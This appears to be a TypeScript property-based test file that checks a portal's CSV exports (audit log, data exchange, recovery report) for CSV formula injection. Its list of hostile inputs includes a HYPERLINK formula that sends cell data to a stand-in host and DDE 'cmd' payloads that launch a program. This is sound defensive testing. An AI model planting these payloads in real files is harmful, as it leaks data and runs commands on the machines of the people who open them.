import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { auditCsv } from '../../../src/application/audit/audit-csv';
import { csvCell, csvOf } from '../../../src/domain/shared/report-csv';
import { csvText } from '../../../src/infrastructure/demo-backend/reports/data-exchange-tables';
import { anEntry, plainWords } from '../../application/audit/audit-fakes';

/**
 * No CSV the portal or its back office stand-in writes can attack the person who opens it (OWASP, "CSV
 * Injection"): the audit-log export built in the browser, the data-exchange exports and the recovery
 * report all write their cells through one function, and no cell of any of them starts a formula.
 */

/** The cells of a semicolon-separated, fully quoted CSV (as the portal writes it). */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  let at = csv.startsWith('\uFEFF') ? 1 : 0;
  while (at < csv.length) {
    expect(csv[at]).toBe('"');
    let text = '';
    at += 1;
    for (;;) {
      const quote = csv.indexOf('"', at);
      text += csv.slice(at, quote);
      if (csv[quote + 1] === '"') {
        text += '"';
        at = quote + 2;
      } else {
        at = quote + 1;
        break;
      }
    }
    cells.push(text);
    if (csv.startsWith('\r\n', at)) at += 2;
    else if (csv[at] === ';') at += 1;
  }
  return cells;
}

const STARTS_FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(?:[.,]\d+)?$/;
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A2,"Klik hier")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
/** Text a person could type anywhere: often hostile, sometimes anything at all. */
const typed = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string(),
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string()).map(([start, rest]) => start + rest),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
);

const safe = (cell: string) => !STARTS_FORMULA.test(cell) || PLAIN_NUMBER.test(cell);

describe('a CSV cell', () => {
  it('that would start a formula is written as text, and every other cell as it is', () => {
    fc.assert(
      fc.property(typed, (value) => {
        const [cell] = cellsOf(csvCell(value));
        expect(cell).toBeDefined();
        expect(safe(cell ?? '')).toBe(true);
        expect(cell === value || cell === `'${value}`).toBe(true);
      }),
      { numRuns: 500 },
    );
  });

  it('keeps a negative figure a number', () => {
    expect(csvCell('-12,5')).toBe('"-12,5"');
  });
});

describe('every CSV export', () => {
  it('the recovery report has no cell that starts a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(typed, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }),
        (table) => {
          const cells = cellsOf(csvOf(table));
          expect(cells).toHaveLength(table.flat().length);
          expect(cells.every(safe)).toBe(true);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('the data-exchange exports have no cell that starts a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(typed, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }),
        (table) => {
          const cells = cellsOf(csvText(table));
          expect(cells).toHaveLength(table.flat().length);
          expect(cells.every(safe)).toBe(true);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('the audit-log export has no cell that starts a formula, a failed sign-in’s username included', () => {
    const labels = {
      columns: {
        at: 'Wanneer',
        user: 'Wie',
        action: 'Actie',
        entityType: 'Soort',
        entity: 'Gegeven',
        changes: 'Wijzigingen',
      },
      action: (action: string) => action,
      entityType: (type: string) => type,
      ...plainWords,
    };
    fc.assert(
      fc.property(fc.array(fc.tuple(typed, typed, typed, typed), { minLength: 1, maxLength: 5 }), (drawn) => {
        const entries = drawn.map(([name, label, field, value], index) =>
          anEntry(index, {
            user: { id: 'u', name },
            action: 'sign_in_failed',
            entity: { type: 'user', id: 'x', label, day: null },
            changes: [{ field, from: null, to: value }],
          }),
        );
        const cells = cellsOf(auditCsv(entries, labels));
        expect(cells).toHaveLength(6 * (entries.length + 1));
        expect(cells.every(safe)).toBe(true);
      }),
      { numRuns: 200 },
    );
    const csv = auditCsv([anEntry(1, { user: { id: 'u', name: HOSTILE[0] ?? '' } })], labels);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A2,""Klik hier"")"`);
  });
});
